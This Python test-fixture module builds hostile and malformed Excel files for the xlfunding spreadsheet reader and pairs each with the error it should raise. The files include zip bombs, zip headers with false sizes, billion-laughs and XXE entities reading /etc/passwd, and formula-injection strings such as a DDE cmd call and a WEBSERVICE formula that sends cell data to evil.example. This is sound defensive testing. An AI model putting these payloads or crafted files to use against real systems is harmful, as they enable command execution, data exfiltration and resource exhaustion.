"""Hostile and broken files, built in code, and what xlfunding must answer for each.

Each builder writes one file (or folder, pipe…) into a folder and returns its path. ``CASES``
lists them with the answer expected: an ``UnreadableFile`` subclass and words of its French
message, or a Report with so many actions. ``tests/test_hostile.py`` checks every case;
``benchmarks/hostile_table.py`` runs the command line on each and prints time and memory.

The valid base is a template written by the library with the three actions of ``BASE``, on
rows 5, 6 and 7 of the « Actions » sheet (columns: A axis, B title, C description, D sponsor,
E total, F Ville, G CCAS, H Région, I ANCT, J CAF, K CAHC, L TFPB, M–O social landlords,
P Autres, Q gap).
"""

from __future__ import annotations

import io
import json
import os
import random
import re
import struct
import subprocess
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape

from builders import BASE, action

from xlfunding.errors import HostileFile, NotAnXlsx, UnreadableFile
from xlfunding.model import Action
from xlfunding.settings import load_settings
from xlfunding.write.template import write_template

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "examples" / "retours" / "ccas-2025.xlsx"
OLE = bytes.fromhex("D0CF11E0A1B11AE1")
SHEET_PART = "xl/worksheets/sheet1.xml"  # « Actions » in every template we write
META_PART = "xl/worksheets/sheet4.xml"  # « _xlfunding », the hidden metadata
MB = 2**20


def template(folder: Path, name: str = "retour.xlsx", actions: Iterable[Action] = BASE, *,
             capacity: int = 10) -> Path:
    """A valid filled template, written by the library."""
    return write_template(load_settings(), folder / name, actions=tuple(actions),
                          capacity=capacity)


# -- zip surgery ---------------------------------------------------------------------------

Edit = bytes | Callable[[bytes], bytes]


def rezip(source: Path, target: Path, edits: Mapping[str, Edit] = {},
          *, add: Mapping[str, bytes] = {}, drop: Iterable[str] = ()) -> Path:
    """Copy the zip ``source`` to ``target`` with some parts replaced (bytes, or a function of
    the old bytes), added or dropped."""
    with zipfile.ZipFile(source) as old:
        items = [(info.filename, old.read(info)) for info in old.infolist()]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in items:
            if name in set(drop):
                continue
            edit = edits.get(name)
            if edit is not None:
                data = edit(data) if callable(edit) else edit
            new.writestr(name, data)
        for name, data in add.items():
            new.writestr(name, data)
    target.write_bytes(buffer.getvalue())
    return target


def edited(folder: Path, edits: Mapping[str, Edit], name: str = "retour.xlsx", **kw: object
           ) -> Path:
    """The base template with some parts edited."""
    base = template(folder, ".base.xlsx")
    path = rezip(base, folder / name, edits, **kw)  # type: ignore[arg-type]
    base.unlink()
    return path


def before_sheet_data_end(xml: bytes) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(b"</sheetData>", xml + b"</sheetData>", 1)


def with_doctype(doctype: bytes) -> Callable[[bytes], bytes]:
    """Insert ``doctype`` after the XML declaration (or at the start)."""
    def edit(data: bytes) -> bytes:
        if data.startswith(b"<?xml"):
            end = data.index(b"?>") + 2
            return data[:end] + doctype + data[end:]
        return doctype + data
    return edit


def inline_cell(ref: str, text: str) -> bytes:
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'.encode()


def patch_cell(ref: str, xml: bytes) -> Callable[[bytes], bytes]:
    """Replace the XML of cell ``ref`` (which must exist) in a sheet part."""
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"(?:\s[^>]*?)?(?:/>|>.*?</c>)', re.S)

    def edit(data: bytes) -> bytes:
        new, count = pattern.subn(lambda _: xml, data, count=1)
        assert count == 1, ref
        return new
    return edit


def patch_sizes(path: Path, member: str, *, file_size: int) -> Path:
    """Make the local and central headers of ``member`` declare ``file_size`` uncompressed
    bytes, whatever the data holds (a header that lies)."""
    data = bytearray(path.read_bytes())
    name = member.encode()
    central = data.find(b"PK\x01\x02")
    while central >= 0:
        length = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + length] == name:
            struct.pack_into("<I", data, central + 24, file_size)
            local = struct.unpack_from("<I", data, central + 42)[0]
            struct.pack_into("<I", data, local + 22, file_size)
            path.write_bytes(bytes(data))
            return path
        central = data.find(b"PK\x01\x02", central + 4)
    raise AssertionError(member)


# -- what the file really is ---------------------------------------------------------------

def xls(folder: Path) -> Path:
    path = folder / "retour.xlsx"
    directory = "Workbook".encode("utf-16-le").ljust(64, b"\0")
    path.write_bytes(OLE + bytes(504) + directory + bytes(4096))
    return path


def password(folder: Path) -> Path:
    """An encrypted workbook: an OLE container whose directory, 3 MiB in, names
    « EncryptedPackage » (beyond the first MiB the old sniffer looked at)."""
    path = folder / "retour.xlsx"
    directory = "EncryptedPackage".encode("utf-16-le").ljust(64, b"\0")
    path.write_bytes(OLE + bytes(3 * MB) + directory + bytes(4096))
    return path


def xlsb(folder: Path) -> Path:
    path = folder / "retour.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/'
                         'package/2006/content-types"/>')
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("xl/workbook.bin", b"\x83\x01\x00")
    return path


def ods(folder: Path) -> Path:
    path = folder / "retour.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office:document-content/>")
        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
    return path


def csv_file(folder: Path) -> Path:
    path = folder / "retour.xlsx"
    path.write_text("Axe;Intitulé;Coût total\nÉmancipation;Atelier;10 000\n", encoding="utf-8")
    return path


def csv_utf16(folder: Path) -> Path:
    """Excel's « Texte Unicode » export: UTF-16 with a byte-order mark, tab-separated."""
    path = folder / "retour.xlsx"
    path.write_bytes("\ufeffAxe\tIntitulé\tCoût total\nÉmancipation\tAtelier\t10000\n"
                     .encode("utf-16-le"))
    return path


def html(folder: Path) -> Path:
    path = folder / "retour.xlsx"
    path.write_text("<html><body><table><tr><td>10 000</td></tr></table></body></html>",
                    encoding="utf-8")
    return path


def empty(folder: Path) -> Path:
    path = folder / "retour.xlsx"
    path.write_bytes(b"")
    return path


def truncated(folder: Path) -> Path:
    data = template(folder, ".base.xlsx").read_bytes()
    (folder / ".base.xlsx").unlink()
    path = folder / "retour.xlsx"
    path.write_bytes(data[: len(data) // 2])
    return path


def a_folder(folder: Path) -> Path:
    path = folder / "retour.xlsx"
    path.mkdir()
    return path


def lock_bytes(user: str = "Marie Dupont") -> bytes:
    """Excel's « owner » file: the user's name (length first), spaces up to 54 bytes, then the
    name again in UTF-16 with its length, padded to 165 bytes."""
    name = user.encode("cp1252")
    head = bytes([len(name)]) + name
    head = head.ljust(54, b" ")
    head += struct.pack("<H", len(user)) + user.encode("utf-16-le")
    return head.ljust(165, b" ")


def lock_file(folder: Path) -> Path:
    path = folder / "~$retour.xlsx"
    path.write_bytes(lock_bytes())
    return path


def lock_file_renamed(folder: Path) -> Path:
    path = folder / "verrou.xlsx"
    path.write_bytes(lock_bytes())
    return path


def xlsm(folder: Path) -> Path:
    def macro(types: bytes) -> bytes:
        return types.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
    return edited(folder, {"[Content_Types].xml": macro},
                  add={"xl/vbaProject.bin": b"\xcc" * 512})


def fifo(folder: Path) -> Path:
    path = folder / "retour.xlsx"
    os.mkfifo(path)
    return path


# -- zip and size hazards ------------------------------------------------------------------

def streamed_sheet(folder: Path, name: str, block: bytes, times: int) -> Path:
    """The base template whose « Actions » sheet carries ``block`` ``times`` times before the
    end of its data, streamed into the zip (the whole is never held in memory nor on disk)."""
    return streamed_rows(folder, name, lambda head: (block for _ in range(times)))


def streamed_rows(folder: Path, name: str, blocks: Callable[[bytes], Iterable[bytes]]) -> Path:
    """The base template whose « Actions » sheet carries ``blocks(head)`` (``head``: the sheet
    up to the end of its data) before the end of its data, streamed into the zip."""
    base = template(folder, ".base.xlsx")
    path = folder / name
    with zipfile.ZipFile(base) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename != SHEET_PART:
                new.writestr(info.filename, data)
                continue
            head, tail = data.split(b"</sheetData>", 1)
            with new.open(SHEET_PART, "w") as part:
                part.write(head)
                for block in blocks(head):
                    part.write(block)
                part.write(b"</sheetData>" + tail)
    base.unlink()
    return path


def spaces_sheet(folder: Path, name: str, megabytes: int) -> Path:
    """The base template whose « Actions » sheet carries a run of ``megabytes`` MB of spaces."""
    return streamed_sheet(folder, name, b" " * MB, megabytes)


def zip_bomb(folder: Path) -> Path:
    """200 MB of spaces inside sheet1.xml: about 200 KB on disk."""
    return spaces_sheet(folder, "retour.xlsx", 200)


def lying_small(folder: Path) -> Path:
    """The same bomb, but its headers declare 1 MB: its ratio looks normal."""
    return patch_sizes(spaces_sheet(folder, "retour.xlsx", 200), SHEET_PART, file_size=MB)


def lying_huge(folder: Path) -> Path:
    """A small part whose headers declare 3 GB."""
    return patch_sizes(template(folder), "xl/styles.xml", file_size=3 * 2**30)


def overwrite_compressed(path: Path, part: str, garbage: bytes, *, breaking: bool = False) -> Path:
    """Overwrite bytes in the middle of ``part``'s compressed stream (same sizes and CRC in
    the headers: only inflating the part finds the damage)."""
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo(part)
    data = bytearray(path.read_bytes())
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    end, half = start + info.compress_size, start + info.compress_size // 2
    for middle in range(half, end if breaking else half + 1):  # with ``breaking``: the first
        trial = data.copy()  # place from the middle on where deflate itself breaks
        trial[middle : middle + len(garbage)] = garbage
        try:
            zlib.decompressobj(-15).decompress(bytes(trial[start:end]))
        except zlib.error:
            break
    path.write_bytes(bytes(trial))
    return path


def corrupt_deflate(folder: Path) -> Path:
    """Bytes of sheet1's compressed stream overwritten (same sizes and CRC in the headers)."""
    return overwrite_compressed(template(folder), SHEET_PART, bytes(range(64)), breaking=True)


def xfd1048576(folder: Path) -> Path:
    """A value in the last cell of Excel's grid, and the dimension saying so."""
    return edited(folder, {SHEET_PART: lambda data: before_sheet_data_end(
        b'<row r="1048576">' + inline_cell("XFD1048576", "fin") + b"</row>")(
        re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', data))})


def quoted_far_cell(folder: Path) -> Path:
    """The last cell of Excel's grid written with single quotes (XML allows them, Excel
    does not write them): a pattern looking for r="…" would miss it."""
    return edited(folder, {SHEET_PART: before_sheet_data_end(
        b"<row r='1048576'><c r='XFD1048576' t='inlineStr'><is><t>fin</t></is></c></row>")})


def million_rows(folder: Path) -> Path:
    """A million formatted empty rows under the table (as when a whole column is formatted),
    streamed into the zip."""
    def rows(head: bytes) -> Iterator[bytes]:
        last = max(int(n) for n in re.findall(rb'<row r="(\d+)"', head))
        for start in range(last + 1, 1_000_001 + last, 20_000):
            stop = min(start + 20_000, 1_000_001 + last)
            yield b"".join(b'<row r="%d"><c r="A%d" s="1"/></row>' % (n, n)
                           for n in range(start, stop))
    return streamed_rows(folder, "retour.xlsx", rows)


def many_members(folder: Path) -> Path:
    """20 000 tiny parts: the zip directory alone would cost time and memory."""
    base = template(folder, ".base.xlsx")
    path = rezip(base, folder / "retour.xlsx",
                 add={f"xl/media/image{n}.png": b"" for n in range(20_000)})
    base.unlink()
    return path


def duplicate_member(folder: Path) -> Path:
    """Two parts named xl/workbook.xml: Excel and we might not read the same one."""
    path = template(folder)
    with warnings.catch_warnings(), zipfile.ZipFile(path, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
    return path


def dense_elements(folder: Path) -> Path:
    """5 million empty styled cells in 5 000 rows (random styles, so the part compresses only
    about 5 to 1): the worst case for the time a sheet takes to parse."""
    generator = random.Random(6)
    row = b"<row>" + b"".join(b'<c s="%d"/>' % generator.randrange(100)
                              for _ in range(1000)) + b"</row>"
    rows = [row.replace(b"<row>", b'<row spans="1:%d">' % n) for n in range(1, 101)]
    block = b"".join(generator.sample(rows, len(rows)))
    return streamed_sheet(folder, "retour.xlsx", block, 50)


def many_rows(folder: Path) -> Path:
    """12 000 rows with a title under the table: far beyond any programme."""
    rows = b"".join(b'<row r="%d">' % n + inline_cell(f"B{n}", f"Action {n}") + b"</row>"
                    for n in range(100, 12_100))
    return edited(folder, {SHEET_PART: before_sheet_data_end(rows)})


def rows_out_of_order(folder: Path) -> Path:
    return edited(folder, {SHEET_PART: before_sheet_data_end(
        b'<row r="6">' + inline_cell("B6", "Encore") + b"</row>")})


def bad_reference(folder: Path) -> Path:
    return edited(folder, {SHEET_PART: patch_cell("E5", '<c r="E\u00b25"><v>1</v></c>'.encode())})


# -- crafted but Excel-openable cells (#17): both engines must read what LibreOffice shows ----

def edited_cells(folder: Path, cells: Mapping[str, bytes], name: str = "retour.xlsx") -> Path:
    """The base template with the XML of some cells of « Actions » replaced."""
    edits = [patch_cell(ref, xml) for ref, xml in cells.items()]

    def apply(data: bytes) -> bytes:
        for edit in edits:
            data = edit(data)
        return data
    return edited(folder, {SHEET_PART: apply}, name)


def duplicate_reference(folder: Path) -> Path:
    """G5 written twice in its row, 1 then 4 000: the last one is the cell (LibreOffice)."""
    return edited_cells(folder, {"G5": b'<c r="G5" s="2"><v>1</v></c>'
                                       b'<c r="G5" s="2"><v>4000</v></c>'})


def cells_out_of_order(folder: Path) -> Path:
    """G5 (4 000) saved after I5: each cell goes where its reference says."""
    return edited_cells(folder, {"G5": b'<c r="H5" s="2"/>',
                                 "I5": b'<c r="I5" s="2"><v>6000</v></c><c r="G5" s="2"><v>4000'
                                       b"</v></c>"})


def comma_value(folder: Path) -> Path:
    """A number saved with a decimal comma, « 4000,5 »: not a number Excel writes (LibreOffice
    shows 4 000, calamine reads a text)."""
    return edited_cells(folder, {"G5": b'<c r="G5" s="2"><v>4000,5</v></c>'})


PRETTY_E5 = b'<c r="E5" s="2">\n  <f>\n    SUM(F5:P5)\n  </f>\n  <v>10000</v>\n</c>'


def pretty_formula(folder: Path) -> Path:
    """Formulas pretty-printed, spaces and line breaks around the tags and inside <f>."""
    return edited_cells(folder, {
        "E5": PRETTY_E5, "E6": b'<c r="E6" s="2">\n <f>SUM(F6:P6)</f>\n <v> 5000 </v>\n</c>'})


def pretty_formula_without_value(folder: Path) -> Path:
    """The same, E6 without a saved value: reported with its formula, spaces left out."""
    return edited_cells(folder, {
        "E5": PRETTY_E5, "E6": b'<c r="E6" s="2">\n  <f>\n    SUM(F6:P6)\n  </f>\n</c>'})


SHARED_E5 = b'<c r="E5" s="2"><f t="shared" ref="E5:E7" si="0">SUM(F5:P5)</f><v>10000</v></c>'


def shared_formula(folder: Path) -> Path:
    """E5 the master of a shared formula over E5:E7, E6 and E7 followers with their values."""
    return edited_cells(folder, {
        "E5": SHARED_E5, "E6": b'<c r="E6" s="2"><f t="shared" si="0"/><v>5000</v></c>',
        "E7": b'<c r="E7" s="2"><f t="shared" si="0"/><v>9000</v></c>'})


def shared_formula_without_value(folder: Path) -> Path:
    """The same, the follower in E7 without a saved value."""
    return edited_cells(folder, {
        "E5": SHARED_E5, "E6": b'<c r="E6" s="2"><f t="shared" si="0"/><v>5000</v></c>',
        "E7": b'<c r="E7" s="2"><f t="shared" si="0"/></c>'})


def number_formats(folder: Path, cells: Mapping[str, tuple[object, str]]) -> Path:
    """The base template with some cells of « Actions » typed with a number format."""
    import openpyxl

    path = template(folder)
    book = openpyxl.load_workbook(path)
    for ref, (value, number_format) in cells.items():
        book["Actions"][ref].value = value
        book["Actions"][ref].number_format = number_format
    book.save(path)
    return path


def date_in_an_amount(folder: Path) -> Path:
    """15/01/2025 typed in a funder's cell: saved as 45672."""
    import datetime as dt

    return number_formats(folder, {"G5": (dt.date(2025, 1, 15), "dd/mm/yyyy")})


def percent_in_an_amount(folder: Path) -> Path:
    """40 % typed in a funder's cell: saved as 0.4."""
    return number_formats(folder, {"G5": (0.4, "0%")})


@dataclass(frozen=True)
class Flagged:
    """A crafted file that is read, with problems at these cells: (cell, code)."""

    build: Callable[[Path], Path]
    problems: tuple[tuple[str, str], ...]


FLAGGED: dict[str, Flagged] = {
    "value-with-a-comma": Flagged(comma_value, (("G5", "excel-error"),)),
    "pretty-formula-without-value": Flagged(pretty_formula_without_value,
                                            (("E6", "formula-without-value"),)),
    "shared-formula-without-value": Flagged(shared_formula_without_value,
                                            (("E7", "formula-without-value"),)),
    "date-in-an-amount": Flagged(date_in_an_amount, (("G5", "invalid-amount"),)),
    "percent-in-an-amount": Flagged(percent_in_an_amount, (("G5", "invalid-amount"),)),
}


# -- XML hazards ---------------------------------------------------------------------------

ENTITY = b'<!DOCTYPE x [<!ENTITY a "aaaa">]>'
LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;")
                                                  * 10) for n in range(1, 10))
          + b"]>")
PASSWD = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'

PARTS = {  # every XML part the reader touches, and one it never reads otherwise
    "content-types": "[Content_Types].xml",
    "root-rels": "_rels/.rels",
    "workbook-rels": "xl/_rels/workbook.xml.rels",
    "workbook": "xl/workbook.xml",
    "shared-strings": "xl/sharedStrings.xml",
    "actions-sheet": SHEET_PART,
    "metadata-sheet": META_PART,
    "styles": "xl/styles.xml",
}


def doctype_in(part: str, doctype: bytes = ENTITY) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        return edited(folder, {part: with_doctype(doctype)})
    build.__doc__ = f"A DTD declaring an entity in {part}."
    return build


def billion_laughs(folder: Path) -> Path:
    return edited(folder, {"xl/sharedStrings.xml": lambda data: with_doctype(LAUGHS)(
        data.replace(b"<t>Forum sant\xc3\xa9</t>", b"<t>&lol9;</t>"))})


def external_entity(folder: Path) -> Path:
    """A cell whose text is &xxe;, an entity naming file:///etc/passwd."""
    return edited(folder, {SHEET_PART: lambda data: patch_cell("C5", (
        b'<c r="C5" t="inlineStr"><is><t>&xxe;</t></is></c>'))(with_doctype(PASSWD)(data))})


def doctype_after_spaces(folder: Path) -> Path:
    """A DTD after a run of blank lines longer than the bytes read for each part's prolog."""
    def edit(data: bytes) -> bytes:
        body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
        return b"\n" * 2000 + ENTITY + body
    return edited(folder, {"xl/styles.xml": edit})


def external_dtd(url: str) -> Callable[[Path], Path]:
    def build(folder: Path) -> Path:
        return edited(folder, {"xl/workbook.xml": with_doctype(
            b'<!DOCTYPE workbook SYSTEM "' + url.encode() + b'">')})
    return build


def utf16_doctype(folder: Path) -> Path:
    """workbook.xml saved in UTF-16, DTD included: a byte search for « <!DOCTYPE » misses it."""
    def edit(data: bytes) -> bytes:
        text = with_doctype(ENTITY)(data).decode("utf-8")
        return text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    return edited(folder, {"xl/workbook.xml": edit})


# -- text that a spreadsheet could take for a command --------------------------------------

INJECTIONS = (
    "=1+1",
    "+33 3 21 00 00 00",
    "-5 % sur la facture",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/x","Cliquez ici")',
    "external:\\\\evil.example\\partage\\x.xlsx",
    "file:///etc/passwd",
    "=WEBSERVICE(\"http://evil.example/?\"&A1)",
)


def injection_actions() -> tuple[Action, ...]:
    """One valid action per payload: the payload is its title and its description."""
    return tuple(action(1 + n % 4, text, "CCAS", "100", description=text, CCAS="100")
                 for n, text in enumerate(INJECTIONS))


def injection(folder: Path) -> Path:
    return template(folder, actions=injection_actions())


# -- annexes given back to xlfunding (``--previous``, ``import``, ``template --from``) --------

ANNEX_SHEET_PART = "xl/worksheets/sheet1.xml"  # « Annexe », the first sheet of every annex


def annex(folder: Path, name: str = "annexe.xlsx") -> Path:
    """A valid annex of the three actions of ``BASE``, written by the library."""
    from xlfunding.model import Programme
    from xlfunding.write.annex import write_annex

    return write_annex(Programme(load_settings(), tuple(BASE)), folder / name)


def edited_annex(folder: Path, edits: Mapping[str, Edit]) -> Path:
    base = annex(folder, ".base.xlsx")
    path = rezip(base, folder / "annexe.xlsx", edits)
    base.unlink()
    return path


def annex_bad_xml(folder: Path) -> Path:
    """The annex sheet cut in the middle of a cell: malformed XML."""
    return edited_annex(folder, {ANNEX_SHEET_PART: lambda data: data[: len(data) // 2]})


def annex_truncated_part(folder: Path) -> Path:
    """The compressed bytes of the annex sheet overwritten half-way (a transfer cut short)."""
    return overwrite_compressed(annex(folder), ANNEX_SHEET_PART, bytes(64))


def annex_truncated_file(folder: Path) -> Path:
    """The annex file cut at two thirds (its zip directory lost)."""
    path = annex(folder)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) * 2 // 3])
    return path


def annex_xfd1048576(folder: Path) -> Path:
    """The annex with a value in the last cell of Excel's grid, and the dimension saying so
    (openpyxl's read-only mode walks the whole grid: 2.8 GB and 11 s)."""
    return edited_annex(folder, {ANNEX_SHEET_PART: lambda data: before_sheet_data_end(
        b'<row r="1048576">' + inline_cell("XFD1048576", "fin") + b"</row>")(
        re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', data))})


def annex_wide_rows(folder: Path) -> Path:
    """5 000 rows under the annex's table, each with a value at column XFD: a reader that
    makes each row a list from column A holds 80 million values."""
    rows = b"".join(b'<row r="%d">' % r + inline_cell(f"XFD{r}", "x") + b"</row>"
                    for r in range(1000, 6000))
    return edited_annex(folder, {ANNEX_SHEET_PART: before_sheet_data_end(rows)})


# The annexes, and the words of the French answer (None: read, its 3 actions imported).
ANNEX_CASES: dict[str, tuple[Callable[[Path], Path], str | None]] = {
    "annex-malformed-xml": (annex_bad_xml, "la feuille « Annexe » est abîmée (XML mal formé"),
    "annex-truncated-part": (annex_truncated_part, "la feuille « Annexe » est illisible"),
    "annex-truncated-file": (annex_truncated_file, "archive zip illisible ou tronquée"),
    "annex-cell-XFD1048576": (annex_xfd1048576, None),
    "annex-5000-rows-at-XFD": (annex_wide_rows, None),
}


# -- the catalogue -------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    build: Callable[[Path], Path]
    error: type[UnreadableFile] | None  # None: read, giving a Report
    detail: str  # words of the message, or of the verdict when read
    actions: int = 0  # when read: actions accepted


CASES: dict[str, Case] = {
    # what the file really is
    "xls": Case(xls, NotAnXlsx, "ancien format Excel .xls"),
    "password": Case(password, NotAnXlsx, "classeur protégé par mot de passe"),
    "xlsb": Case(xlsb, NotAnXlsx, "classeur binaire .xlsb"),
    "ods": Case(ods, NotAnXlsx, "tableur OpenDocument (.ods)"),
    "csv": Case(csv_file, NotAnXlsx, "fichier texte (CSV ?) renommé"),
    "csv-utf16": Case(csv_utf16, NotAnXlsx, "fichier texte Unicode"),
    "html": Case(html, NotAnXlsx, "page HTML renommée"),
    "empty": Case(empty, NotAnXlsx, "le fichier est vide"),
    "truncated": Case(truncated, NotAnXlsx, "archive zip illisible ou tronquée"),
    "folder": Case(a_folder, NotAnXlsx, "c'est un dossier, pas un fichier"),
    "lock-file": Case(lock_file, NotAnXlsx, "fichier de verrouillage d'Excel"),
    "lock-file-renamed": Case(lock_file_renamed, NotAnXlsx, "fichier de verrouillage d'Excel"),
    "xlsm-renamed": Case(xlsm, NotAnXlsx, "classeur avec macros (.xlsm) renommé"),
    "fifo": Case(fifo, NotAnXlsx, "ce n'est pas un fichier ordinaire"),
    # zip and size hazards
    "zip-bomb-200MB": Case(zip_bomb, HostileFile, "bombe de décompression"),
    "header-lies-small": Case(lying_small, UnreadableFile, "contrôle d'intégrité en échec"),
    "header-lies-huge": Case(lying_huge, HostileFile, "ferait 3072 Mo une fois décompressée"),
    "corrupt-deflate": Case(corrupt_deflate, UnreadableFile, "données compressées invalides"),
    "cell-XFD1048576": Case(xfd1048576, None, "valide", 3),
    "quoted-cell-XFD1048576": Case(quoted_far_cell, None, "valide", 3),
    "million-empty-rows": Case(million_rows, None, "valide", 3),
    "20000-parts": Case(many_members, HostileFile, "l'archive annonce 20\u00a0015 parties"),
    "duplicate-part": Case(duplicate_member, HostileFile, "portent le même nom"),
    "5M-elements": Case(dense_elements, HostileFile, "éléments XML à lire"),
    "12000-rows": Case(many_rows, HostileFile, "plus de 10\u00a0000 lignes ou 200\u00a0000 "
                       "cellules remplies"),
    "rows-out-of-order": Case(rows_out_of_order, UnreadableFile,
                              "ligne 6 en double ou dans le désordre"),
    "bad-cell-reference": Case(bad_reference, UnreadableFile,
                               "référence de cellule « E²5 » impossible"),
    # crafted but Excel-openable cells: both engines read them as LibreOffice shows them
    "duplicate-cell-reference": Case(duplicate_reference, None, "valide", 3),
    "cells-out-of-order": Case(cells_out_of_order, None, "valide", 3),
    "pretty-printed-formula": Case(pretty_formula, None, "valide", 3),
    "shared-formula-followers": Case(shared_formula, None, "valide", 3),
    # XML hazards
    **{f"dtd-{key}": Case(doctype_in(part), HostileFile, "déclare une DTD ou des entités XML")
       for key, part in PARTS.items()},
    "billion-laughs": Case(billion_laughs, HostileFile, "déclare une DTD ou des entités XML"),
    "xxe-etc-passwd": Case(external_entity, HostileFile, "déclare une DTD ou des entités XML"),
    "utf16-dtd": Case(utf16_doctype, HostileFile, "déclare une DTD ou des entités XML"),
    "dtd-after-blank-lines": Case(doctype_after_spaces, HostileFile,
                                  "déclare une DTD ou des entités XML"),
    # text that looks like a formula: read as text
    "formula-injection": Case(injection, None, "valide", len(INJECTIONS)),
}


# -- running the command line in a subprocess, measured ------------------------------------

XLFUNDING = Path(sys.executable).parent / "xlfunding"
_MEASURE = """
import json, resource, subprocess, sys, time
start = time.perf_counter()
try:
    done = subprocess.run(sys.argv[2:], capture_output=True, text=True,
                          timeout=float(sys.argv[1]))
    code, out, err = done.returncode, done.stdout, done.stderr
except subprocess.TimeoutExpired as exc:
    code, out, err = "timeout", "", str(exc)
wall = time.perf_counter() - start
peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
print(json.dumps({"code": code, "stdout": out, "stderr": err, "wall": wall, "rss_mb": peak}))
"""


@dataclass(frozen=True)
class Run:
    code: int | str  # exit code, negative for a signal, or "timeout"
    stdout: str
    stderr: str
    wall: float  # seconds
    rss_mb: float  # peak resident memory of the command

    @property
    def first_line(self) -> str:
        return next((line for line in (self.stderr + self.stdout).splitlines() if line), "")


def measure(args: list[str], timeout: float = 120) -> Run:
    """Run a command in a fresh process that waits for it and reports its wall time and peak
    memory (``RUSAGE_CHILDREN``: only that command was its child)."""
    done = subprocess.run([sys.executable, "-c", _MEASURE, str(timeout), *args],
                          capture_output=True, text=True, timeout=timeout + 30, check=True)
    return Run(**json.loads(done.stdout))


def run_validate(path: Path, timeout: float = 120) -> Run:
    return measure([str(XLFUNDING), "validate", str(path)], timeout)

